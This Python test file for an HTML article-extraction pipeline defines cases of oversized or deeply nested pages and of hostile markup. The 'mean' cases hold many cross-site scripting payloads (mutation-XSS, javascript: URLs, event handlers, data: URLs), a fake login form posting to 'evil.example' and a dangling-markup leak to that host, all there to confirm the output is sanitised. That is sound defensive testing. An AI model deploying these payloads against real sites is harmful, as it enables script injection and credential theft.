"""Pages that are larger or deeper than real pages, or that attack a reader's browser."""

import json
from functools import partial
from typing import Any

from tests.catalogue.case import Case
from tests.catalogue.cases.rights import contains, harmless, has_news, short
from tests.catalogue.press import NEW, NOW, body, listing, story
from tests.catalogue.stage import Stage
from tests.support.newsroom import path, title

BODY = body(NEW)
_PLAIN = "The harbour master hopes"


def _page(page: str, stage: Stage) -> None:
    stage.site[path(NEW)] = page


def bad(name: str, article: str, reason: str, *, head: str = "", **more: Any) -> Case:
    """Return a case whose article is not readable; the others stay as they are."""
    return Case(name, partial(_page, story(NEW, text=article, head=head)), reason, **more)


def good(name: str, article: str, right: Any = has_news, *, head: str = "", **more: Any) -> Case:
    """Return a case whose article is readable."""
    return Case(name, partial(_page, story(NEW, text=article, head=head)), right=right, **more)


def mean(name: str, *vectors: str, head: str = "") -> Case:
    """Return a case with markup that must be harmless in the published documents."""
    return good(name, "".join(f"{BODY}{vector}" for vector in vectors), harmless, head=head)


def _listing(page: str, stage: Stage) -> None:
    stage.site["/news"] = page


_LINKS = "".join(f'<a href="/other/{n}">Another page {n}</a>' for n in range(50_000))
_JSON_LD = '<script type="application/ld+json">{}</script>'

CASES = (
    good("depth-300", "<div>" * 300 + BODY + "</div>" * 300),
    bad("depth-100k", "<div>" * 100_000 + BODY + "</div>" * 100_000, "nested too deeply"),
    bad("text-11mb", f"{BODY}<p>{'word ' * 2_200_000}</p>", "larger than 8000000 bytes"),
    bad("siblings-1m", BODY + "<i></i>" * 1_000_000, "more than 400,000 tags"),
    bad(
        "attributes-60k",
        f"{BODY}<p {' '.join(f'a{n}=1' for n in range(60_000))}>x</p>",
        "more than 10,000 attributes",
    ),
    good("unclosed-comment", f"{BODY}<!-- and so it goes"),
    mean(
        "svg-math-mxss",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></style></p>"
        "</foreignObject></svg>",
    ),
    mean("srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    mean(
        "javascript-url",
        '<a href="javascript:alert(1)">a</a>',
        '<a href=" java\tscript:alert(1)">b</a>',
        '<a href="&#106;avascript&colon;alert(1)">c</a>',
        '<img src="javascript:alert(1)">',
    ),
    # --- further cases ---
    Case(
        "title-2mb",
        partial(_page, story(NEW).replace(title(NEW), f"{title(NEW)} {'word ' * 400_000}")),
        right=short,
    ),
    good("control-sequences", f"{BODY}<p>\x9d0;owned\x9c\x9b2J</p>"),
    mean(
        "script-tag",
        "<script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</script>",
        "<SCRIPT/XSS SRC=x></SCRIPT>",
    ),
    mean(
        "event-handlers",
        '<p onclick="alert(1)">x</p>',
        "<img src=x onerror=alert(1)>",
        "<details ontoggle=alert(1)>",
    ),
    mean(
        "data-url",
        '<a href="data:text/html,<script>alert(1)</script>">x</a>',
        '<img src="data:text/html,alert(1)">',
    ),
    mean(
        "style-attack",
        '<p style="background:url(javascript:alert(1))">x</p>',
        "<style>@import 'x';</style>",
    ),
    mean(
        "form-attack",
        '<form action="https://evil.example/"><input name=password><button>Log in</button></form>',
    ),
    mean("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    mean(
        "template-mxss",
        "<template><img src=x onerror=alert(1)></template>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ),
    mean(
        "cdata-in-html",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<!--><img src=x onerror=alert(1)>-->",
    ),
    mean("dangling-markup", "<img src='https://evil.example/?"),
    mean(
        "title-attack",
        "<p>x</p>",
        head='<meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt;">',
    ),
    good("plaintext-tag", f"{BODY}<plaintext>{BODY}", contains(_PLAIN)),
    good(
        "base-elsewhere",
        f'{BODY}<p><a href="x">On</a></p>',
        head='<base href="javascript:alert(1)//">',
    ),
    good(
        "title-100k",
        BODY,
        contains(_PLAIN),
        head=f'<meta property="og:title" content="{"long " * 20_000}">',
    ),
    good("json-ld-depth-100k", BODY, head=_JSON_LD.format("[" * 100_000 + "]" * 100_000)),
    good(
        "json-ld-5mb",
        BODY,
        head=_JSON_LD.format(json.dumps([{"@type": "Thing", "name": "x" * 50}] * 60_000)),
    ),
    good("meta-20k", BODY, head='<meta name="a" content="b">' * 20_000),
    good("links-50k-in-article", f"{BODY}<footer>{_LINKS}</footer>", seconds=60),
    bad(
        "entities-1m",
        f"{BODY}<p hidden>{'&amp;' * 1_000_000}</p>",
        "more than 200,000 characters that HTML escapes",
    ),
    good("tables-in-tables", BODY + "<table><tr><td>" * 200 + "x" + "</td></tr></table>" * 200),
    good("formatting-unclosed-200", BODY + "<b><i><u>" * 60 + "x"),
    good("attribute-5mb", f'{BODY}<p data-x="{"a" * 5_000_000}">x</p>'),
    Case(
        "listing-50k-links",
        partial(_listing, listing(NOW, more=f"<footer>{_LINKS}</footer>")),
        right=has_news,
        seconds=60,
    ),
    Case(
        "listing-depth-100k",
        partial(_listing, "<div>" * 100_000 + listing(NOW)),
        "nested too deeply|no article links",
    ),
    Case(
        "listing-text-11mb",
        partial(_listing, listing(NOW, more="x" * 11_000_000)),
        "bytes|too large|larger",
    ),
    Case(
        "listing-siblings-1m",
        partial(_listing, listing(NOW, more="<i></i>" * 1_000_000)),
        "more than 150,000 elements|more than 400,000 tags",
    ),
)
